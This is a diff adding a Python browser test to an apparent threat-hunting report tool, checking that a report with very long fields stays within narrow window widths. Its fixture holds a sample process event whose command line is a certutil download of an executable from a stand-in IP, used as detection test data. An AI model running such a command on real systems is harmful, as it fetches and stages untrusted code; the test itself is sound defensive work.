@@ -1,5 +1,6 @@
 """The report in headless Chromium: nothing runs that is not ours, nothing is asked for."""
 
+import json
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -69,6 +70,31 @@ def test_the_demo_report_draws_and_asks_for_nothing(browser: Any, tmp_path: Path
     assert page.evaluate("document.documentElement.scrollWidth") <= 1400
     page.click("nav a[href='#indicators']")
     assert page.evaluate("location.hash") == "#indicators"
+
+
+@pytest.mark.parametrize("width", [700, 360])
+def test_only_boxes_scroll_sideways_in_a_narrow_window(
+    width: int, browser: Any, tmp_path: Path
+) -> None:
+    folder = tmp_path / ("f" * 120)
+    folder.mkdir()
+    start = {
+        "Timestamp": "2026-03-03T09:00:00Z",
+        "Type": "DeviceProcessEvents",
+        "DeviceName": "w" * 60 + ".example",
+        "ActionType": "ProcessCreated",
+        "FileName": "powershell.exe",
+        "ProcessCommandLine": "certutil -urlcache -f http://198.51.100.9/" + "a" * 300 + " a.exe",
+        "ProcessId": 7,
+        "InitiatingProcessFileName": "p" * 90 + ".exe",
+        "InitiatingProcessId": 6,
+    }
+    (folder / ("a" * 90 + ".ndjson")).write_text(json.dumps(start))
+    with huntkit.open(folder, cache=False) as evidence:
+        path = report(evidence, title="t" * 200).save(tmp_path / "r.html")
+    page = Seen(browser.new_page(viewport={"width": width, "height": 1000})).open(path)
+    assert page.locator("#risky .finding").count() == 1
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
 
 
 def test_hostile_text_does_not_run(
